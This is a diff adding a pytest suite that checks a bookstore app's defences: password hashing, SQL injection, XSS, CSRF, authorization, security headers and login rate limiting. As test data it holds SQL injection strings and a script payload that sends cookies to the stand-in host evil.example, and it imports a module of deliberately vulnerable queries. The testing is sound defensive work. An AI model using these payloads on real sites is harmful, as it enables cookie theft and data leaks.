@@ -1,0 +1,243 @@
+"""Application security: passwords, SQL injection, XSS, CSRF, authorization, headers,
+login rate limiting."""
+
+import re
+
+import pytest
+from argon2 import PasswordHasher
+from bookstore.security.passwords import hash_password, make_hasher, verify_password
+from bookstore.security.vulnerable_examples import find_user_safe, find_user_vulnerable
+
+INJECTION = "' OR 1=1 --"
+
+
+# --8<-- [start:password_tests]
+def test_hashes_are_argon2id_and_salted():
+    hasher = make_hasher()
+    first, second = (
+        hash_password(hasher, "s3cret pass phrase"),
+        hash_password(hasher, "s3cret pass phrase"),
+    )
+    assert first.startswith("$argon2id$v=19$m=65536,t=3,p=4$")
+    assert first != second  # a new random salt each time
+    assert verify_password(hasher, first, "s3cret pass phrase") == (True, None)
+    assert verify_password(hasher, first, "wrong guess") == (False, None)
+
+
+def test_old_weak_hashes_are_upgraded_at_login(fast_hasher):
+    old = PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1)  # yesterday's setting
+    stored = old.hash("s3cret pass phrase")
+    matches, new_hash = verify_password(fast_hasher, stored, "s3cret pass phrase")
+    assert matches and new_hash is not None
+    assert "m=8192" in new_hash  # today's parameters; the caller saves it
+
+
+# --8<-- [end:password_tests]
+
+
+def test_a_corrupt_hash_does_not_crash_login(fast_hasher):
+    assert verify_password(fast_hasher, "not-a-hash", "whatever") == (False, None)
+
+
+def test_login_stores_the_upgraded_hash(client, db, log_in):
+    weak = PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1)
+    log_in("kiki@example.com")
+    db.execute(
+        "UPDATE users SET password_hash = ? WHERE email = ?",
+        (weak.hash("correct horse battery staple"), "kiki@example.com"),
+    )
+    credentials = {"email": "kiki@example.com", "password": "correct horse battery staple"}
+    assert client.post("/api/v1/sessions", json=credentials).status_code == 201
+    stored = db.execute("SELECT password_hash FROM users WHERE email = 'kiki@example.com'")
+    assert "m=8192" in stored.fetchone()[0]
+
+
+def test_wrong_password_and_unknown_user_look_the_same(client, log_in):
+    log_in("lala@example.com")
+    wrong = client.post(
+        "/api/v1/sessions", json={"email": "lala@example.com", "password": "x" * 12}
+    )
+    unknown = client.post(
+        "/api/v1/sessions", json={"email": "nobody@example.com", "password": "x" * 12}
+    )
+    assert wrong.status_code == unknown.status_code == 401
+    assert wrong.json()["detail"] == unknown.json()["detail"]
+
+
+def test_duplicate_sign_up_is_409(client, log_in):
+    log_in("mira@example.com")
+    again = {"email": "MIRA@example.com", "password": "another long password"}
+    assert client.post("/api/v1/users", json=again).status_code == 409  # case-insensitive
+
+
+def test_bad_bearer_token_is_401_with_challenge(client):
+    response = client.get("/api/v1/orders", headers={"Authorization": "Bearer made-up"})
+    assert response.status_code == 401
+    assert response.headers["WWW-Authenticate"] == "Bearer"
+
+
+def test_sessions_expire(client, log_in, clock):
+    headers = log_in("nina@example.com")
+    assert client.get("/api/v1/orders", headers=headers).status_code == 200
+    clock.advance(8 * 3600 + 1)
+    assert client.get("/api/v1/orders", headers=headers).status_code == 401
+
+
+# --8<-- [start:sql_injection_test]
+def test_vulnerable_query_leaks_every_user(empty_db):
+    for email in ("ana@example.com", "budi@example.com"):
+        empty_db.execute("INSERT INTO users (email, password_hash) VALUES (?, 'x')", (email,))
+    leaked = find_user_vulnerable(empty_db, INJECTION)
+    assert len(leaked) == 2  # the attacker knew no e-mail address at all
+
+
+def test_parameterized_query_treats_the_input_as_plain_text(empty_db):
+    for email in ("ana@example.com", "budi@example.com"):
+        empty_db.execute("INSERT INTO users (email, password_hash) VALUES (?, 'x')", (email,))
+    assert find_user_safe(empty_db, INJECTION) == []  # no user has that odd address
+    assert len(find_user_safe(empty_db, "ana@example.com")) == 1
+
+
+def test_injection_through_the_api_is_harmless(client, log_in):
+    log_in("ana@example.com")
+    sneaky = "'OR'1'='1'--@example.com"  # passes the e-mail format check, no spaces
+    response = client.post("/api/v1/sessions", json={"email": sneaky, "password": "x" * 12})
+    assert response.status_code == 401  # no login, no SQL error, no 500
+
+
+# --8<-- [end:sql_injection_test]
+
+
+# --8<-- [start:xss_test]
+def test_reviews_are_escaped_in_html(client):
+    page = client.get("/books/1")
+    token = page.cookies["csrf_token"]
+    attack = "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
+    posted = client.post(
+        "/books/1/reviews",
+        data={"author_name": "Mallory", "body": attack, "csrf_token": token},
+        follow_redirects=False,
+    )
+    assert posted.status_code == 303
+
+    html = client.get("/books/1").text
+    assert "<script>fetch" not in html  # not executable markup ...
+    assert "&lt;script&gt;fetch(&#39;https://evil.example/?c=&#39;+document.cookie)" in html
+
+
+# --8<-- [end:xss_test]
+
+
+# --8<-- [start:csrf_test]
+def test_form_post_without_csrf_token_is_403(client):
+    client.get("/books/1")  # the browser has the cookie, as in a real attack
+    forged = client.post("/books/1/reviews", data={"author_name": "x", "body": "spam"})
+    assert forged.status_code == 403
+
+
+def test_form_post_with_someone_elses_token_is_403(client):
+    token = client.get("/books/1").cookies["csrf_token"]
+    client.cookies.clear()  # the victim's browser does not hold the attacker's cookie
+    client.get("/books/2")  # ... but has its own
+    forged = client.post(
+        "/books/1/reviews", data={"author_name": "x", "body": "spam", "csrf_token": token}
+    )
+    assert forged.status_code == 403
+
+
+# --8<-- [end:csrf_test]
+
+
+def test_csrf_token_needs_our_signature(client, settings):
+    from bookstore.security.csrf import csrf_token_is_valid, issue_csrf_token
+
+    token = issue_csrf_token(settings.secret_key)
+    assert csrf_token_is_valid(settings.secret_key, token, token)
+    forged = token.split(".")[0] + "." + "0" * 64
+    assert not csrf_token_is_valid(settings.secret_key, forged, forged)
+    assert not csrf_token_is_valid(settings.secret_key, None, token)
+
+
+def test_csrf_cookie_is_secure_httponly_strict(client):
+    cookie = client.get("/books/1").headers["set-cookie"]
+    assert re.search(r"(?i)\bsecure\b", cookie) and "HttpOnly" in cookie
+    assert "samesite=strict" in cookie.lower()
+
+
+def test_review_of_a_missing_book_is_404(client):
+    token = client.get("/books/1").cookies["csrf_token"]
+    response = client.post(
+        "/books/999/reviews", data={"author_name": "x", "body": "y", "csrf_token": token}
+    )
+    assert response.status_code == 404
+
+
+# --8<-- [start:authorization_test]
+def test_users_see_only_their_own_orders(client, log_in):
+    alice, bob = log_in("alice@example.com"), log_in("bob@example.com")
+    order = client.post(
+        "/api/v1/orders", headers=alice, json={"items": [{"book_id": 1, "quantity": 1}]}
+    ).json()
+    url = f"/api/v1/orders/{order['id']}"
+
+    assert client.get(url, headers=alice).status_code == 200
+    assert client.get(url).status_code == 401  # not logged in
+    assert client.get(url, headers=bob).status_code == 404  # logged in, not the owner
+    assert client.get("/api/v1/orders/999999", headers=bob).status_code == 404  # same answer
+
+
+# --8<-- [end:authorization_test]
+
+
+# --8<-- [start:security_headers_test]
+@pytest.mark.parametrize("path", ["/books/1", "/api/v1/books", "/api/v1/books/999"])
+def test_every_response_has_security_headers(client, path):
+    headers = client.get(path).headers
+    assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
+    assert "default-src 'self'" in headers["Content-Security-Policy"]
+    assert headers["X-Content-Type-Options"] == "nosniff"
+    assert headers["Referrer-Policy"] == "strict-origin-when-cross-origin"
+
+
+# --8<-- [end:security_headers_test]
+
+
+# --8<-- [start:rate_limit_test]
+def test_sixth_login_attempt_in_a_minute_is_429(client, clock, log_in):
+    log_in("olga@example.com")  # one successful login already counts
+    wrong = {"email": "olga@example.com", "password": "not the password"}
+    for _ in range(4):
+        assert client.post("/api/v1/sessions", json=wrong).status_code == 401
+
+    blocked = client.post("/api/v1/sessions", json=wrong)
+    assert blocked.status_code == 429
+    assert blocked.headers["Retry-After"] == "60"
+
+    clock.advance(61)  # a minute later the window has moved on
+    assert client.post("/api/v1/sessions", json=wrong).status_code == 401
+
+
+# --8<-- [end:rate_limit_test]
+
+
+def test_limits_are_per_account(client, log_in):
+    log_in("pia@example.com")
+    for _ in range(5):
+        client.post("/api/v1/sessions", json={"email": "zz@example.com", "password": "y" * 12})
+    ok = client.post(
+        "/api/v1/sessions",
+        json={"email": "pia@example.com", "password": "correct horse battery staple"},
+    )
+    assert ok.status_code == 201
+
+
+def test_retry_after_counts_down(clock):
+    from bookstore.security.rate_limit import RateLimiter
+
+    limiter = RateLimiter(limit=2, window=60, clock=clock)
+    assert limiter.hit("k") == 0
+    clock.advance(20)
+    assert limiter.hit("k") == 0
+    assert limiter.hit("k") == 40  # the first attempt leaves the window in 40 s
+    clock.advance(40)
+    assert limiter.hit("k") == 0
